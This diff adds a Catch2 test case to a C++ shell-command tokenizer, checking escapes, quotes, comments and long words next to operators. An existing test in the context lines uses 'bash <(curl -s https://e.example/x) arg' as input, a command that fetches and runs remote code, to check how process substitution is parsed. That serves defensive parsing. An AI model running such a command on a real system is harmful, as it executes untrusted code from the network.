@@ -99,6 +99,34 @@ TEST_CASE("tokenize: unterminated and hostile input", "[shell]") {
   CHECK(tokenize_shell("x\\").size() == 1);
 }
 
+TEST_CASE("tokenize: runs of ordinary characters end where the shell's rules say", "[shell]") {
+  // a backslash inside double quotes that escapes nothing is kept, and the text goes on
+  auto c = tokenize_shell("grep \"a\\d+b\" f");
+  REQUIRE(c.size() == 1);
+  CHECK(words(c[0]) == std::vector<std::string>{"grep", "a\\d+b", "f"});
+  c = tokenize_shell("echo \"x\\\" y\\$z\\`w\\\\v\"");
+  REQUIRE(c.size() == 1);
+  CHECK(words(c[0]) == std::vector<std::string>{"echo", "x\" y$z`w\\v"});
+  // '#' inside a word is text, at the start of one a comment
+  c = tokenize_shell("echo a#b #c");
+  REQUIRE(c.size() == 1);
+  CHECK(words(c[0]) == std::vector<std::string>{"echo", "a#b"});
+  // a long word next to every operator
+  std::string long_word(300, 'w');
+  c = tokenize_shell(long_word + "|" + long_word + ";" + long_word + "&&x>" + long_word + "(y)z<q");
+  REQUIRE(c.size() == 5);
+  CHECK(words(c[0]) == std::vector<std::string>{long_word});
+  CHECK(words(c[2]) == std::vector<std::string>{long_word});
+  REQUIRE(c[2].redirects.size() == 0);
+  CHECK(words(c[3]) == std::vector<std::string>{"x", "y"});  // "(" only separates words
+  REQUIRE(c[3].redirects.size() == 1);
+  CHECK(c[3].redirects[0].second == long_word);
+  // single quotes keep everything but the unknown-part markers
+  c = tokenize_shell("echo 'a\"$b\\c d'");
+  REQUIRE(c.size() == 1);
+  CHECK(words(c[0]) == std::vector<std::string>{"echo", "a\"$b\\c d"});
+}
+
 TEST_CASE("shell: process substitution <(…) is one unknown word, not a redirection", "[shell]") {
   auto cmds = tokenize_shell("bash <(curl -s https://e.example/x) arg");
   REQUIRE(cmds.size() == 1);
